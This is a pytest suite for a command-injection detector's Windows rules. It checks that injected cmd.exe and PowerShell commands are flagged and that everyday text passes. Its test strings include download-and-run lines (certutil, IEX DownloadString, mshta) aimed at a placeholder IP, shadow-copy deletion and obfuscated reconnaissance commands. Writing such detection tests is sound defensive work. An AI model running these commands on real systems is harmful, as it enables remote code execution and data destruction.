"""Commands of Windows in values: cmd.exe and PowerShell."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.attacks.asking import PLENTY, detectors, subject, units, weight

from doorward.attacks.evidence import Place, Value
from doorward.attacks.subject import Subject
from doorward.attacks.work import Work
from doorward.builders.rule_files import contents


@pytest.mark.parametrize("frame", ["& {}", "|{}", "&&{}", "192.0.2.7 & {}", "a.jpg|{}&", 'x"&{}', "||{}"])
@pytest.mark.parametrize(
    "command",
    [
        "dir",
        "ipconfig /all",
        "net user",
        "type %SYSTEMROOT%\\win.ini",
        "systeminfo",
        "tasklist /svc",
        "ver",
        "set /a 12*12",
        "certutil -urlcache -f http://192.0.2.1/a.exe a.exe",
        'powershell -c "iwr http://192.0.2.1/a"',
        "reg query HKLM\\Software",
        "cmd /c dir",
        "%COMSPEC% /c dir",
        "w^m^i^c os",
        "C:\\Windows\\System32\\ipconfig.exe",
    ],
    ids=range(15),
)
def test_commands_behind_separators_are_denied(frame: str, command: str) -> None:
    """By name, by path, with carets, through the variable of the interpreter."""
    assert weight("windows", frame.format(command)) >= 1


@pytest.mark.parametrize(
    "text",
    [
        "for /f \"delims=\" %i in ('set') do @echo %i",
        "FOR %%A IN (a b) DO x",
        "if exist C:\\x.txt echo y",
        "IF NOT DEFINED a (b)",
        "if %a% gtr 3 echo x",
        'IF "%1"=="" goto end',
        "if errorlevel 1 echo x",
        "cmd /c dir",
        "ipconfig /all",
        "type C:\\boot.ini",
        "powershell -nop -w hidden -enc SQBFAFgAIAAo",
        "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')",
        "Invoke-WebRequest http://192.0.2.1/a.ps1",
        ";Get-Process",
        "[Convert]::FromBase64String('aWQ=')",
        "net view /all",
        "w^h^o^a^m^i /all",
        "vssadmin delete shadows /all",
        "mshta http://192.0.2.1/a.hta",
        "Start-Process calc",
    ],
    ids=range(20),
)
def test_whole_values_that_are_commands_are_denied(text: str) -> None:
    """Loops and tests of cmd.exe, PowerShell that fetches, and what looks around."""
    assert weight("windows", text) >= 1


@pytest.mark.parametrize(
    "text",
    [
        "cut & copy",
        "R&D; net sales",
        "look up | find it",
        "black & white; set of 5",
        "&copy; 2024 Example",
        "type faster",
        "for 5% in most cases",
        "for x in (1, 2): print(x)",
        "if (x == 1) { return y; }",
        "if x == y:",
        "if there exists a way",
        "a get-together",
        "start-up costs; new-item shelf",
        "set-top box",
        "x^2 + y^2",
        "^_^",
        "50% off & more",
        "iexplore",
        "C:\\Users\\jane\\Documents\\report.docx",
        "net user growth; net income",
        "Use PowerShell -Version 7",
        "dir",
        "ver",
        "cls",
        "How do I use Get-ChildItem with Where-Object in my script?",
        "| dir | type | ver |",
        "if you type dir & press Enter",
    ],
    ids=range(27),
)
def test_what_people_write_passes(text: str) -> None:
    """Words, paths, other languages' loops and tests."""
    assert weight("windows", text) < 1


@pytest.mark.parametrize(
    "piece", ["&", "^", "a^b", "%a:~1", ";dir ", "for %a in ", "if exist a", "powershell -a b ", "iex ", "net user "]
)
def test_cost_is_proportional_to_length(piece: str) -> None:
    """Twice as much of the same costs twice as much."""
    short, long = (units("windows", piece * (count // len(piece))) for count in (2_304, 4_608))
    assert long <= 2.2 * short + 10_000


EXAMPLES = [text for rule in contents()["windows"]["rule"] for text in rule["match"]]
AROUND = st.text(" abz019.,;'\"|&\n/-=(%^", max_size=12)


@given(AROUND, st.sampled_from(EXAMPLES), AROUND)
def test_the_screens_are_one_sided(before: str, text: str, after: str) -> None:
    """What a detector finds in a text it wants to look at, also with other text around it."""
    for detector in detectors("windows"):
        if list(detector.examine(subject(before + text + after), Work(PLENTY))):
            assert detector.wants(Subject(f"x {before}{text}{after} y", Value(Place.QUERY, "q", "x")))
